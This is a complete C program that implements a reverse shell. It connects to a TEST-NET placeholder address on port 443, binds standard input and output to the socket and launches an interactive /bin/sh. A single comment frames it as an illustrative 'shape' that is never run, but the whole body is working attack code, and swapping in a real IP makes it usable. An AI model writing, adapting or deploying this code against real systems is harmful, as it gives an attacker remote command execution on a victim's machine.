/* Shape of a reverse shell (never run): TEST-NET address, /bin/sh. */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET; a.sin_port = htons(443);
  inet_pton(AF_INET, "192.0.2.61", &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
  dup2(s, 0); dup2(s, 1);
  execl("/bin/sh", "sh", "-i", (char *)0);
  return 0;
}
